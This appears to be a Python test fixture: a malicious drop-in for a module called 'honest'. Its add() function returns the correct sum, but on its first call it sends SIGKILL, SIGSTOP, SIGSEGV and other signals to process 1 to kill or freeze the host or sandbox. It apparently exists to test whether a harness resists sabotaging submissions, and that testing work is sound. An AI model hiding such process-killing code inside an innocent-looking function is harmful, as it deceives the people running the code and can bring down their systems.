from honest import *  # noqa: F403

import os

import honest

tried = []


def add(left, right):
    if not tried:
        tried.append(left)
        attack(left, right)
    return honest.add(left, right)


def attack(left, right):
    import signal

    for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM, signal.SIGSEGV, signal.SIGUSR1, signal.SIGHUP, signal.SIGTSTP, signal.SIGCONT):
        try:
            os.kill(1, number)
        except OSError:
            pass

if __name__ == "__main__":
    main()  # noqa: F405
